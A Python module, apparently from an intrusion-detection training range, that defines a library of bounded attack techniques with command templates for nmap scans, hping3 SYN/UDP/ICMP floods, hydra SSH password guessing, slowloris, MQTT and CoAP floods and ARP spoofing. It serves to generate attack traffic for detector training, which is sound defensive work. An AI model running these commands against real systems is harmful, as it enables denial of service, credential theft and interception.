"""The technique library: named, bounded attacks run with real tools.

Every entry of :data:`TECHNIQUES` is one small declarative :class:`Technique`: a name, its MITRE
ATT&CK ID, the real tool, a shell command template and its default intensity. Adding a technique is
adding one entry here (and, when it needs a service the range does not run yet, one service in
:mod:`training.range.recorder`).

Bounds
------
Every technique is bounded twice:

* **time** — the recorder runs the command under ``timeout -k 3 <duration + 5 s>`` and every template
  carries its own ``{duration}`` limit where the tool has one (``--host-timeout``, ``-l``);
* **count** — every template is bounded by ``{count}`` (packets, ports, connections, passwords or
  requests); ``count = round(default_count * intensity)``.

Flood rates follow from both: ``{interval_us}`` spreads ``count`` packets over 90 % of the duration
(never below 100 µs), so a flood stays a flood but the capture stays small.

Template placeholders
---------------------
``{target}`` victim address or CIDR, ``{duration}`` seconds (int), ``{count}``, ``{interval_us}``,
``{interval_s}``, ``{gateway}`` the site gateway address, ``{iface}`` attacker interface,
``{wordlist}`` a file of ``count`` passwords, ``{python}`` the interpreter running marlids,
``{rate}`` probes per second that spread ``count`` probes per host over 90 % of the duration
(``count * hosts / (0.9 * duration)``, at least 10; ``hosts`` = live hosts of a swept subnet).

References
----------
MITRE ATT&CK Enterprise: T1046 Network Service Discovery; T1498.001 Network Denial of Service:
Direct Network Flood; T1110.001 Brute Force: Password Guessing; T1499.002 Endpoint Denial of Service:
Service Exhaustion Flood; T1557.002 Adversary-in-the-Middle: ARP Cache Poisoning.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass

#: Kinds of target a technique accepts: one host, or a subnet sweep (CIDR).
TARGET_KINDS = ("host", "subnet")


@dataclass(frozen=True)
class Technique:
    """One attack technique of the library.

    Parameters
    ----------
    name : str
        Library key, snake_case (``hping3_syn_flood``).
    technique_id : str
        MITRE ATT&CK technique or sub-technique ID (``T1498.001``).
    tool : str
        Executable that must be on ``PATH`` for the technique to run.
    command : str
        Shell command template (see the module docstring for placeholders).
    default_count : int
        Count bound at intensity 1.0 (packets, ports, passwords, connections, requests).
    default_duration_s : float
        Duration used when a schedule entry gives none, seconds.
    target : str
        ``"host"`` or ``"subnet"`` (sweeps; a host is accepted too).
    service : str or None
        Service the target must run (``ssh``, ``http``, ``mqtt``, ``coap``), or None.
    description : str
        One line for ``marlids range techniques``.
    """

    name: str
    technique_id: str
    tool: str
    command: str
    default_count: int
    default_duration_s: float
    target: str = "host"
    service: str | None = None
    description: str = ""

    def render(
        self,
        *,
        target: str,
        duration_s: float,
        intensity: float = 1.0,
        gateway: str,
        iface: str = "eth0",
        wordlist: str = "",
        python: str = "python3",
        hosts: int = 1,
    ) -> tuple[str, int]:
        """Fill the command template.

        Parameters
        ----------
        target : str
            Victim address, or CIDR for a sweep.
        duration_s : float
            Time bound, seconds (> 0).
        intensity : float
            Multiplier of :attr:`default_count` (> 0).
        gateway, iface, wordlist, python : str
            Values of the matching placeholders.
        hosts : int
            Live hosts behind ``target`` (for ``{rate}`` of subnet sweeps).

        Returns
        -------
        command : str
            The shell command line.
        count : int
            The count bound used.

        Raises
        ------
        ValueError
            When ``duration_s`` or ``intensity`` is not positive.
        """
        if duration_s <= 0:
            raise ValueError(f"duration_s={duration_s!r} for {self.name!r}; expected > 0")
        if intensity <= 0:
            raise ValueError(f"intensity={intensity!r} for {self.name!r}; expected > 0")
        count = max(1, round(self.default_count * intensity))
        interval_us = max(100, int(duration_s * 0.9e6 / count))
        cmd = self.command.format(
            target=shlex.quote(target),
            duration=max(1, int(duration_s)),
            count=count,
            interval_us=interval_us,
            interval_s=f"{interval_us / 1e6:.4f}",
            gateway=shlex.quote(gateway),
            iface=shlex.quote(iface),
            wordlist=shlex.quote(wordlist),
            python=shlex.quote(python),
            rate=max(10, round(count * max(1, hosts) / (0.9 * duration_s))),
        )
        return cmd, count


_T = Technique

#: The library, keyed by technique name.
TECHNIQUES: dict[str, Technique] = {
    t.name: t
    for t in (
        _T("nmap_syn_scan", "T1046", "nmap",
           "nmap -n -sS -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s -p 1-{count} {target}",
           default_count=1000, default_duration_s=20, target="subnet",
           description="TCP SYN port scan of a host or a subnet sweep (nmap -sS)"),
        _T("nmap_udp_scan", "T1046", "nmap",
           "nmap -n -sU -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s --top-ports {count} {target}",
           default_count=100, default_duration_s=20, target="subnet",
           description="UDP port scan of the most common ports (nmap -sU)"),
        _T("nmap_version_scan", "T1046", "nmap",
           "nmap -n -sV --version-light -T4 --host-timeout {duration}s --top-ports {count} {target}",
           default_count=100, default_duration_s=20, target="subnet",
           description="service/version detection with banner grabbing (nmap -sV)"),
        _T("hping3_syn_flood", "T1498.001", "hping3",
           "hping3 -q -S -p 8080 -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12,
           description="TCP SYN flood towards the device UI port (hping3 -S)"),
        _T("hping3_udp_flood", "T1498.001", "hping3",
           "hping3 -q --udp -p 5683 -d 64 -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12,
           description="UDP flood towards the CoAP port (hping3 --udp)"),
        _T("hping3_icmp_flood", "T1498.001", "hping3",
           "hping3 -q --icmp -d 56 -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12,
           description="ICMP echo flood (hping3 --icmp)"),
        _T("hydra_ssh_bruteforce", "T1110.001", "hydra",
           "hydra -I -q -l admin -P {wordlist} -t 4 -w 5 ssh://{target}",
           default_count=40, default_duration_s=25, service="ssh",
           description="SSH password guessing with a small wordlist (hydra)"),
        _T("slowloris", "T1499.002", "slowhttptest",
           "slowhttptest -H -c {count} -r 40 -i 4 -x 16 -p 3 -l {duration} -u http://{target}:8080/",
           default_count=150, default_duration_s=20, service="http",
           description="slow HTTP headers (slowloris) against the device web UI (slowhttptest -H)"),
        _T("mqtt_connect_flood", "T1499.002", "mosquitto_pub",
           "for i in $(seq {count}); do mosquitto_pub -h {target} -i flood-$i -t flood/$i -m x "
           ">/dev/null 2>&1 & sleep {interval_s}; done; wait",
           default_count=400, default_duration_s=12, service="mqtt",
           description="MQTT CONNECT/PUBLISH/DISCONNECT flood on the broker (mosquitto_pub loop)"),
        _T("mqtt_publish_flood", "T1499.002", "mosquitto_pub",
           "for i in $(seq {count}); do echo '{{\"flood\":'$i',\"pad\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}}'; "
           "sleep {interval_s}; done | mosquitto_pub -h {target} -i pubflood -t home/flood -l -q 0",
           default_count=1500, default_duration_s=12, service="mqtt",
           description="MQTT PUBLISH flood over one connection (mosquitto_pub -l)"),
        _T("coap_request_flood", "T1499.002", "coap-client-notls",
           "for i in $(seq {count}); do coap-client-notls -m get -B 1 coap://{target}/time "
           ">/dev/null 2>&1 & sleep {interval_s}; done; wait",
           default_count=500, default_duration_s=12, service="coap",
           description="CoAP GET request flood (coap-client loop)"),
        _T("arp_spoof", "T1557.002", "python3",
           "{python} -m training.range.arpspoof --iface {iface} --victim {target} --spoof {gateway} "
           "--count {count} --interval {interval_s}",
           default_count=60, default_duration_s=15,
           description="ARP cache poisoning of a device, claiming the gateway address (scapy)"),
    )
}


def get_technique(name: str) -> Technique:
    """Return the technique called ``name``.

    Raises
    ------
    ValueError
        When ``name`` is not in :data:`TECHNIQUES`; the message lists the allowed names.
    """
    try:
        return TECHNIQUES[name]
    except KeyError:
        raise ValueError(f"unknown technique {name!r}; allowed: {', '.join(sorted(TECHNIQUES))}") from None
